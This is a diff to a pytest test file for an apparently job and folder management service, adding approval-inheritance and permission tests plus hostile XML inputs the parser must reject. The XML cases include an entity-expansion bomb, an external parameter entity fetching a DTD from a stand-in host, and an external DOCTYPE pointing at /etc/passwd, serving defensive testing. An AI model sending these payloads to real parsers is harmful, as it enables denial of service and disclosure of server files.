@@ -26,8 +26,14 @@ class TestXml:
             "", "<project>", "no xml", '<!DOCTYPE x [<!ENTITY a "aa">]><project>&a;</project>',
             '<!DOCTYPE x SYSTEM "file:///etc/passwd"><project/>', "<a>" * 200 + "</a>" * 200,
             "<project>" + "x" * 1024 * 1024 + "</project>",
+            '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]><project>&c;</project>',
+            '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/x.dtd"> %p;]><project/>',
+            '<?xml version="1.1" encoding="UTF-16"?><project/>', '<?xml version="1.0" encoding="IBM037"?><project/>',
+            '<?xml version="1.0"?><?xml version="1.0"?><project/>', "<project>&undeclared;</project>",
         ],
-        ids=["empty", "open", "text", "entity", "outside", "deep", "large"],
+        ids=[
+            "empty", "open", "text", "entity", "outside", "deep", "large", "laughs", "parameter", "wide", "ebcdic", "twice", "unknown",
+        ],
     )  # fmt: skip
     def test_that_is_none_or_hostile_is_refused(self, text):
         with pytest.raises(BadXml):
@@ -81,6 +87,38 @@ class TestJobs:
         services.want_approval(job, needed=True, by=boss)
 
         assert services.copy_job(job, name="deploy2", by=chief).needs_approval
+
+    def test_in_a_folder_that_wants_approval_hand_it_to_copies_elsewhere(self, server, chief, boss, job):
+        services.want_approval(job("Release"), needed=True, hours=3, by=boss)
+
+        outside = services.copy_job(job("Release/release"), name="release-2", by=chief)
+        inside = services.copy_job(job("Release/release"), name="release-3", folder="Release", by=chief)
+
+        assert (outside.needs_approval, outside.approval_hours) == (True, 3)
+        assert not inside.needs_approval
+        assert {services.ask(job=one, by=chief).state for one in (outside, inside)} == {"requested"}
+
+    def test_that_want_approval_hand_it_to_copies_of_the_folder_they_are_in(self, server, chief, boss, job):
+        services.want_approval(job("Release/release"), needed=True, by=boss)
+
+        services.copy_job(job("Release"), name="Release-2", by=chief)
+        services.refresh(server)
+
+        assert services.ask(job=job("Release-2/release"), by=chief).state == "requested"
+
+    def test_of_a_closed_folder_go_nowhere_with_the_folder_above(self, server, chief, boss, job, client):
+        Rule.objects.create(server=server, folder="Nightly/Databases", person=boss, may_configure=True)
+        above = job("Nightly")
+
+        for act in (
+            lambda: services.copy_job(above, name="mine", by=chief),
+            lambda: services.rename_job(above, name="mine", by=chief),
+            lambda: services.delete_job(above, typed="Nightly", by=chief),
+        ):
+            with pytest.raises(NotHere):
+                act()
+        assert "Nightly/Databases/check" in client.all_job_names()
+        assert "mine/Databases/check" not in client.all_job_names()
 
     def test_take_what_is_in_them_and_their_rules_along(self, server, chief, boss):
         services.create_folder(server, name="Team", by=chief)
